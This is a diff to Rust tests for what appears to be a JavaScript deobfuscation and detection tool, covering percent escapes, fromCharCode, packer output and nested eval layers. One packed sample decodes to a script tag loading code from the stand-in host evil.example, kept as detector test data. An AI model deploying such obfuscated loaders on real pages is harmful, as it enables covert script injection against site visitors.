@@ -46,7 +46,7 @@ fn gnu_gpl_noise() {
 #[test]
 fn needless_percent() {
     let script = format!("document.write(unescape('{}'))", hex(MARKUP, "%"));
-    assert_eq!(signs(&script), [PercentLetters]);
+    assert_eq!(signs(&script), [PercentLetters, DecodedCode]);
     assert_eq!(layers(&script)[0], MARKUP);
     let split = hex(MARKUP, "%").replace("%73", "'+'%73");
     assert!(signs(&format!("document.write(unescape('{split}'))")).contains(&PercentLetters));
@@ -71,7 +71,7 @@ fn escapes_and_codes() {
     assert!(signs(&escaped).contains(&EscapedLetters));
     let codes: Vec<String> = MARKUP.bytes().map(|b| b.to_string()).collect();
     let script = format!("eval(String.fromCharCode({}))", codes.join(","));
-    assert_eq!(signs(&script), [CharCodes]);
+    assert_eq!(signs(&script), [CharCodes, DecodedCode]);
     assert_eq!(layers(&script)[0], MARKUP);
     let array = format!("var c=[{}];", codes.join(","));
     assert!(signs(&array).is_empty() || signs(&array) == [CharCodes]);
@@ -106,9 +106,12 @@ fn computed_calls_symbols_and_mappers() {
 
 #[test]
 fn packer_is_undone() {
-    let script = "eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0.1(\"<2 3=\\'//4.5/6\\'></2>\")',62,7,\
+    let script = "eval(function(p,a,c,k,e,d){e=function(c){return c.toString(a)};if(!''.replace(/^/,String)){\
+        while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};\
+        while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}\
+        ('0.1(\"<2 3=\\'//4.5/6\\'></2>\")',10,7,\
         'document|write|script|src|evil|example|x'.split('|'),0,{}))";
-    assert_eq!(signs(script), [Packed]);
+    assert!(signs(script).contains(&Packed));
     assert_eq!(layers(script)[0], "document.write(\"<script src='//evil.example/x'></script>\")");
     assert!(report(script).sinks.contains(&Sink::Write));
 }
@@ -122,7 +125,7 @@ fn layers_of_layers() {
     for _ in 0..12 {
         deep = format!("eval(unescape('{}'))", deep.replace('%', "%25").replace('\'', "%27"));
     }
-    assert!(layers(&deep).len() <= 6);
+    assert!(layers(&deep).len() <= 8);
 }
 
 #[test]
@@ -259,7 +262,7 @@ proptest! {
     #[test]
     fn any_text_gives_a_report(text in "\\PC{0,200}|[\\[\\](){}'\"`$/\\\\+x0-9a-f%:;.,=!]{0,200}") {
         let found = report(&text);
-        prop_assert!(found.layers.len() <= 6);
+        prop_assert!(found.layers.len() <= 8);
         prop_assert_eq!(report(&text), found);
     }
 }
